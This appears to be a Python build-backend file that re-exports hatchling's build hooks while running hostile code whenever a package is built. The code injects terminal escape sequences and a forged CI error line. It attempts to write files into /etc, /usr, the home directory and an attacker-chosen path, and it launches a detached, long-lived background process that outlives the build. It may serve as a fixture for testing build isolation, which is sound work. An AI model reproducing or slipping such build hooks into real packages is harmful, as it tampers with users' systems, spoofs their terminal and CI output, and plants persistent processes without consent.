import os
import subprocess
import sys
from pathlib import Path

from hatchling.build import *

sys.stderr.write("\x1b]0;owned\x07\x1b[2J\u202e\n::error::owned\n")
for place in ("/etc", "/usr", os.environ["HOME"], "/tmp/../var/tmp/..", os.environ.get("HOSTILE_TARGET", "/root")):
    try:
        Path(place, "betrayed-by-a-build").write_text("x")
    except OSError:
        pass
subprocess.Popen(
    [sys.executable, "-c", "import os, time; os.setsid(); os.execve('/bin/sleep', ['sleep', '971313'], {})"],
    start_new_session=True,
    env={},
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
